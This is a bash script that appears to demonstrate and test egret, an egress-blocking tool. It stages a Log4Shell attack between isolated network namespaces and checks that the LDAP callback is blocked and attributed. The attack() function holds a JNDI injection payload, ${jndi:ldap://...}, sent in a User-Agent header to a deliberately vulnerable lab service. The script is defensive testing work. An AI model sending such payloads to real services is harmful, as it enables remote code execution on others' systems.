#!/usr/bin/env bash
# Log4Shell's second stage, stopped and reported by egret. Runs entirely in
# network namespaces this script creates (and deletes): "victim" runs a
# vulnerable service as user nobody; "attacker" runs an LDAP server on 1389.
# The attacker sends a request whose User-Agent carries ${jndi:ldap://...};
# the service's logger then calls the attacker back, first without egret
# (exploited), then under `egret run` (blocked, and reported with the
# process, user and destination).
#
#   sudo bash examples/log4shell/run.sh        # EGRET=path/to/egret to skip the build
set -euo pipefail
cd "$(dirname "$0")/../.."
[ "$(id -u)" = 0 ] || { echo "run as root: the example creates network namespaces" >&2; exit 1; }
if [ -z "${EGRET:-}" ]; then
  bash scripts/deps.sh
  cargo build --release -q
  EGRET=$PWD/target/release/egret
fi
HERE=examples/log4shell
V=l4s-victim-$$ A=l4s-attacker-$$ TMP=$(mktemp -d)
# What nobody runs must not be read from the checkout, which may sit where
# only root can enter (/root/egret): a world-readable copy.
PUB=$(mktemp -d /tmp/egret-log4shell.XXXXXX); chmod 755 "$PUB"
cleanup() {
  for ns in "$V" "$A"; do ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null || true; done
  sleep 0.2
  ip netns del "$V" 2>/dev/null || true; ip netns del "$A" 2>/dev/null || true
  rm -rf "$TMP" "$PUB"
}
trap cleanup EXIT
ip netns add "$V"; ip netns add "$A"
ip -n "$V" link add eth0 type veth peer name eth0 netns "$A"
ip -n "$V" addr add 10.66.0.1/24 dev eth0; ip -n "$A" addr add 10.66.0.2/24 dev eth0
for ns in "$V" "$A"; do ip -n "$ns" link set lo up; ip -n "$ns" link set eth0 up; done
in_v() { nsenter --net=/run/netns/"$V" -- "$@"; }
in_a() { nsenter --net=/run/netns/"$A" -- "$@"; }
wait_line() { local f=$1 pat=$2; for _ in $(seq 100); do grep -q "$pat" "$f" 2>/dev/null && return 0; sleep 0.1; done; echo "timed out waiting for '$pat' in $f" >&2; cat "$f" >&2; return 1; }

touch "$TMP/ldap.log"; chmod 666 "$TMP/ldap.log"
# Background programs run in subshells, so they are not this shell's jobs
# (cleanup kills everything in the namespaces).
(in_a /usr/bin/python3 "$HERE/attacker_ldap.py" 10.66.0.2 1389 "$TMP/ldap.log" > "$TMP/attacker.out" &) 2>/dev/null
install -m 644 "$HERE/vulnerable_service.py" "$PUB/"
(in_v setpriv --reuid=nobody --regid=nogroup --clear-groups /usr/bin/python3 "$PUB/vulnerable_service.py" 10.66.0.1 8080 > "$TMP/service.out" &) 2>/dev/null
wait_line "$TMP/attacker.out" listening; wait_line "$TMP/service.out" listening
attack() { in_a /usr/bin/python3 -c 'import urllib.request,sys; r=urllib.request.Request("http://10.66.0.1:8080/", headers={"User-Agent": sys.argv[1]}); print("service answered:", urllib.request.urlopen(r, timeout=10).read().decode().strip())' "\${jndi:ldap://10.66.0.2:1389/Exploit}"; }

echo "== 1. without egret: the attacker sends \${jndi:ldap://10.66.0.2:1389/Exploit} in a User-Agent"
attack
wait_line "$TMP/service.out" "jndi:"
grep "jndi:" "$TMP/service.out" | tail -1 | sed 's/^/   service: /'
echo "   attacker's LDAP server: $(grep -c connected "$TMP/ldap.log") connection(s)"

echo "== 2. egret run --policy $HERE/policy.toml (the service may only reach its mirror)"
(in_v "$EGRET" run --policy "$HERE/policy.toml" --state-dir "$TMP/state" > "$TMP/events.jsonl" 2> "$TMP/egret.err" &) 2>/dev/null
wait_line "$TMP/egret.err" "watching blocked egress"
: > "$TMP/ldap.log"
attack
wait_line "$TMP/service.out" "lookup of 10.66.0.2:1389 failed"
grep "jndi:" "$TMP/service.out" | tail -1 | sed 's/^/   service: /'
echo "   attacker's LDAP server: $(grep -c connected "$TMP/ldap.log" || true) connection(s)"
wait_line "$TMP/events.jsonl" '"port":1389'

echo "== 3. what egret reported: one ECS JSON object per line on stdout; here its main fields"
grep -m1 '"port":1389' "$TMP/events.jsonl" | /usr/bin/python3 -c '
import json, sys
doc = json.load(sys.stdin)
def flat(d, prefix=""):
    for k, v in d.items():
        if isinstance(v, dict):
            yield from flat(v, prefix + k + ".")
        else:
            yield prefix + k, v
fields = dict(flat(doc))
for k in ["@timestamp", "message", "event.action", "rule.name", "process.pid", "process.executable",
          "process.command_line", "user.name", "user.id", "source.ip", "destination.ip", "destination.port",
          "network.transport", "egret.attribution", "egret.count"]:
    print(f"   {k:<22} {fields.get(k)}")'
echo "== egret events"
in_v "$EGRET" events --state-dir "$TMP/state" | sed 's/^/   /'

# The example is also a test: fail unless the block was reported with the right who and where.
/usr/bin/python3 - "$TMP/events.jsonl" "$TMP/ldap.log" <<'PY'
import json, sys
events = [json.loads(l) for l in open(sys.argv[1])]
hits = [e for e in events if e.get("destination", {}).get("port") == 1389]
assert hits, "no event for the LDAP callback"
e = hits[0]
assert e["event"]["action"] == "blocked", e
assert e["destination"]["ip"] == "10.66.0.2", e
assert e["user"]["name"] == "nobody", e
assert "vulnerable_service.py" in e["process"]["command_line"], e
assert e["egret"]["attribution"] == "sock_diag+proc", e
assert open(sys.argv[2]).read() == "", "the attacker was reached despite egret"
print("== ok: the callback was blocked and attributed to pid %d (%s, user %s)" % (e["process"]["pid"], e["process"]["executable"], e["user"]["name"]))
PY
